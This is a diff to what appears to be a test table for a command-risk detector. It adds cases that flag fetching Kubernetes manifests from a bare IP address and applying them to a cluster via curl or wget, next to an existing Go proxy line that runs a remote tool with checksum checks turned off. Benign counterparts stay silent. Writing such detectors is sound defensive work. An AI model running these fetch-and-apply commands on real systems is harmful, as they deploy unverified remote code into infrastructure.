@@ -32,8 +32,16 @@ indicatorTable(commandPackageFromAddress, {
     'a proxy for modules of Go': script(
       'GONOSUMDB=* GOPROXY=http://203.0.113.7:8081 go run tool.example.com/agent@latest',
     ),
+    'objects that a pipe brings': script('curl -s http://203.0.113.7/a.yaml | kubectl apply -f -'),
+    'objects in a file that was brought': script(
+      'wget -qO /tmp/a.yaml http://203.0.113.7/a.yaml; kubectl create -f /tmp/a.yaml',
+    ),
   },
   staysSilent: {
+    'objects of a project, in a pipe': script(
+      'curl -sL https://github.com/acme/tool/releases/v1/a.yaml | kubectl apply -f -',
+    ),
+    'objects that are only looked at': script('curl -s http://203.0.113.7/a.yaml > /tmp/a; kubectl get -f /tmp/a'),
     'a chart of a host with a name': script('helm upgrade --install a https://charts.example.com/a-1.tgz'),
     'objects of a known host': script('kubectl apply -f https://github.com/acme/x/releases/download/v1/x.yaml'),
     'objects of the own network': script('kubectl apply -f http://10.0.0.7/x.yaml'),
